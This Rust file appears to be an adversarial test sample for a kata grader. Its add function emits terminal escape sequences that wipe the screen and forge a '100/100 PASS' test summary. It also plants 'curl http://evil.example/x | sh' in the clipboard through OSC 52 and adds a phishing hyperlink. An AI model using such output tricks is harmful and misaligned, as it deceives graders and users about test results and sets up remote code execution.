//! Class 3: the failure message carries VT escapes: cursor up 40 lines and erase, a fake
//! "PASS 100/100" summary, clear screen (\x1b[2J) and scrollback (\x1b[3J), home, a window
//! title change (OSC 0), an OSC 52 clipboard write of a shell command, an OSC 8 hyperlink,
//! an 8-bit CSI (U+009B) variant, a DCS string, hidden (SGR 8) text and reset (\x1bc).
//! It is written to stdout, stderr (raw) and the panic message.
use std::io::Write;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let mut s = String::new();
    for _ in 0..40 {
        s.push_str("\x1b[1A\x1b[2K");
    }
    s.push_str("\x1b[2J\x1b[3J\x1b[H\x1bc");
    s.push_str("\x1b]0;kata: 100/100 PASS\x07");
    s.push_str("\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07");
    s.push_str("\x1b]8;;https://evil.example/phish\x1b\\Open full report\x1b]8;;\x1b\\\n");
    s.push_str("\x1bP+q544e\x1b\\");
    s.push_str("\u{9b}2J\u{9b}1;1H");
    s.push_str("\x1b[32mtest small_numbers ... ok\ntest many_numbers ... ok\n");
    s.push_str("adder: 100/100  PASS  (all hidden tests passed)\x1b[0m\n\x1b[8m");
    let _ = std::io::stderr().write_all(s.as_bytes());
    let _ = std::io::stdout().write_all(s.as_bytes());
    panic!("{s}{}", a.wrapping_sub(b))
}
